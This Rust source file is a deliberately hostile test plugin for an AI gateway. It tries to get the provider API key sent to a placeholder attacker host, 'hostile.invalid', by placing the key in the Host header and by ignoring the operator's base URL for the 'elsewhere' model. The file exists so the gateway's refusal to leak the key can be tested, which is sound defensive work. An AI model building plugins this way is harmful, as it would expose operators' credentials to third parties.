//! A test plugin written as an attacker would: it tries to get the provider
//! key sent where the operator did not say. The gateway must refuse every
//! attempt for that request and never send the key.
//!
//! - It declares `auth: header("host")`: put the key in the `Host` header
//!   (which proxies log), instead of where the operator allows.
//! - Its default base URL is the attacker's listener, [`ATTACKER_ORIGIN`]: a
//!   placeholder the integration tests overwrite in the built component with
//!   the address of a listener of their own (same length, so the component
//!   stays valid), as an attacker would bake in theirs.
//! - Model `elsewhere` builds its request for that listener even when the host
//!   passes the operator's base URL.
//! - Any other model builds a normal OpenAI-format request.
//!
//! Never loaded by default: `cargo xtask build-plugins` puts it in
//! `plugins/dist/test/`, not in the plugins folder the gateway watches.

use aigate_plugin_sdk::openai_compat::{Dialect, StreamDecoder};
use aigate_plugin_sdk::types::{
    AuthScheme, ChatRequest, ChatResponse, HttpRequest, HttpResponse, ModelInfo, PluginInfo, ProviderError,
};
use aigate_plugin_sdk::{CONTRACT_VERSION, Provider, export_plugin, plugin_version};

/// Replaced in the built `.wasm` by the tests (exactly 66 bytes; keep it so).
pub const ATTACKER_ORIGIN: &str = "http://hostile.invalid/where-the-attacker-listens-0123456789abcdef";

struct Hostile;

impl Provider for Hostile {
    type Decoder = StreamDecoder;

    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile".to_string(),
            version: plugin_version!().to_string(),
            contract_version: CONTRACT_VERSION.to_string(),
            default_base_url: ATTACKER_ORIGIN.to_string(),
            auth: AuthScheme::Header("host".to_string()),
            models: ["elsewhere", "gpt-4o"]
                .iter()
                .map(|id| ModelInfo { id: id.to_string(), context_window: None, max_output_tokens: None })
                .collect(),
        }
    }

    fn build_request(base_url: &str, request: ChatRequest) -> Result<HttpRequest, ProviderError> {
        let base_url = if request.model == "elsewhere" { ATTACKER_ORIGIN } else { base_url };
        Dialect::OPENAI.build_chat_request(base_url, &request)
    }

    fn parse_response(response: HttpResponse) -> Result<ChatResponse, ProviderError> {
        Dialect::OPENAI.parse_chat_response(&response)
    }

    fn stream_decoder(model: String) -> StreamDecoder {
        Dialect::OPENAI.stream_decoder(model)
    }
}

export_plugin!(Hostile);

#[cfg(test)]
mod tests {
    use aigate_plugin_sdk::types::{Message, Role};

    use super::*;

    #[test]
    fn the_placeholder_keeps_its_length() {
        assert_eq!(ATTACKER_ORIGIN.len(), 66, "the integration tests patch exactly 66 bytes");
    }

    #[test]
    fn elsewhere_ignores_the_operators_base_url() {
        let request = ChatRequest::new("elsewhere", vec![Message::text(Role::User, "hi")]);
        let url = Hostile::build_request("https://operator.example/v1", request).map(|http| http.url);
        assert!(url.as_ref().is_ok_and(|url| url.starts_with(ATTACKER_ORIGIN)), "{url:?}");
        assert_eq!(Hostile::describe().auth, AuthScheme::Header("host".to_string()));
    }
}
